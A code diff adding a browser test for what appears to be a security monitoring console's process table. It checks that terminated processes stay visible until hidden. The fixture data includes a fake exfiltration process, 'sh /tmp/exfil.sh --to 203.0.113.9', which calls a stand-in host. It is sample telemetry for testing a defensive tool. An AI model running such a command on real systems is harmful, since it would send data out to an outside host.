@@ -182,3 +182,29 @@ def test_every_page_has_no_serious_accessibility_violation_and_fits_1366(page, s
                                  / f"page{path.replace('/', '-') or '-overview'}.png"), full_page=True)
     assert {p: v for p, v in found.items() if v} == {}
     assert not [e for e in page.csp_errors if "Content Security Policy" in e]
+
+
+def test_processes_keep_terminated_ones_visible_until_hidden(page, stack: Stack) -> None:
+    from appliance.generated import sensor_pb2
+
+    ProcessEvent = sensor_pb2.ProcessEvent
+    events = [ProcessEvent(kind=ProcessEvent.START, timestamp=sc.T0_MS + 1000, pid=4242, ppid=1, name="exfil.sh",
+                           path="/tmp/exfil.sh", command_line="sh /tmp/exfil.sh --to 203.0.113.9", user="bob"),
+              ProcessEvent(kind=ProcessEvent.EXIT, timestamp=sc.T0_MS + 9000, pid=4242, exit_code=0, name="exfil.sh"),
+              ProcessEvent(kind=ProcessEvent.START, timestamp=sc.T0_MS + 2000, pid=77, ppid=1, name="sshd",
+                           command_line="/usr/sbin/sshd -D", user="root")]
+    stack.appliance.stub().StreamProcesses(iter(events), metadata=[("x-machine-id", "console-proc-host"),
+                                                                   ("x-agent-hostname", "proc-host")])
+    agent = next(a for a in stack.appliance.rest.get("/api/v1/agents")[1]["agents"] if a["hostname"] == "proc-host")
+    sign_in(page, stack)
+    page.goto(f"{stack.url}/#/processes?agent_id={agent['id']}")
+    table = page.get_by_role("table", name="Processes")
+    table.get_by_text("sh /tmp/exfil.sh --to 203.0.113.9").wait_for()
+    assert table.locator("tr.terminated").count() == 1
+    assert "exit 0" in table.locator("tr.terminated").inner_text()
+    page.get_by_label("Hide terminated processes").check()
+    table.get_by_text("sh /tmp/exfil.sh").wait_for(state="detached")
+    assert table.get_by_text("/usr/sbin/sshd -D").is_visible()
+    page.get_by_label("Hide terminated processes").uncheck()
+    table.get_by_text("sh /tmp/exfil.sh --to 203.0.113.9").wait_for()
+    assert axe_violations(page) == []
